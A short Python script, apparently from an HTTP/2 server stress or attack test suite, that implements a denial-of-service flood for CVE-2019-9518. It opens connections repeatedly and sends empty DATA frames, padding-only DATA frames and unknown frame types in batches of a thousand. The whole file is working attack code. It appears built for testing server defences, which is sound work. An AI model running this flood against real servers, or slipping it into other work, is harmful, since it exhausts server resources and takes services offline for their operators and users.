#!/usr/bin/python3
"""Frames without content (CVE-2019-9518): empty DATA that ends nothing, DATA of padding only, unknown types."""
from attacker import Peer, h2, headers, main

MARK = ("http2.flood_empty",)
ENDED = True


def attack(run):
    kinds = (h2.frame(h2.DATA, 0, 1), h2.frame(h2.DATA, h2.PADDED, 1, b"\0"), h2.frame(h2.DATA, h2.PADDED, 1, b"\x08" + bytes(8)),
             h2.frame(0xfa, 0, 0), h2.frame(0xfa, 0, 1, b"x"))
    turn = 0
    while run.going():
        peer = Peer(run)
        peer.send(headers(1))
        while peer.send(kinds[turn % len(kinds)] * 1000, 1000) and run.going():
            pass
        peer.wait(2)
        peer.close()
        turn += 1


if __name__ == "__main__":
    main(attack)
